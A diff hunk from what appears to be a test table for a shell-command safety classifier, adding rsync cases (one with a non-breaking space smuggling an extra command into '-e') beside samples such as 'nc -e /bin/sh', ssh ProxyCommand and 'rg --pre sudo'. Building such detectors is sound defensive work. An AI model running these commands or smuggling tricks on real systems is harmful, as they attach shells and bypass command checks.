@@ -161,6 +161,8 @@ TABLE = [
     case("ssh -o ProxyCommand='x' h", C.EXEC_OVERRIDE, C.NETWORK, why="ProxyCommand"),
     case("rsync -e 'sh -c x' a h:b", C.EXEC_OVERRIDE, why="rsync -e a command"),
     only("rsync -e ssh a h:b", C.NETWORK, why="rsync -e ssh"),
+    only("rsync -e 'ssh -p 22' a h:b", C.NETWORK, why="rsync -e ssh, options"),
+    case("rsync -e $'ssh\\u00a0x' a h:b", C.EXEC_OVERRIDE, why="rsync -e 'ssh x'"),
     case("nc -e /bin/sh h 1", C.NETWORK, C.UNMODELLED, why="nc -e attaches a shell"),
     case("rg --pre 'sudo' x", C.EXEC_OVERRIDE, C.PRIVILEGE, why="rg --pre"),
     case("man -P 'x' ls", C.EXEC_OVERRIDE, why="man -P names a pager"),
